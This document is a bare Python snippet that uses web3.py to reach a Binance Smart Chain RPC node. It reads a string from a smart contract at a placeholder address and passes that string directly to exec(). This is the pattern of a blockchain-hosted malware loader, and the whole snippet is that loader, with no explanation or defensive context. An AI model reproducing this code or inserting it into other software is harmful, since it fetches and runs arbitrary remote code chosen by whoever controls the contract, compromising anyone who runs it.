from web3 import Web3
w3 = Web3(Web3.HTTPProvider("https://bsc-dataseed.binance.org"))
contract = w3.eth.contract(address="0x0000000000000000000000000000000000000001", abi=[{"name":"get","outputs":[{"type":"string"}],"inputs":[],"type":"function"}])
exec(contract.functions.get().call())
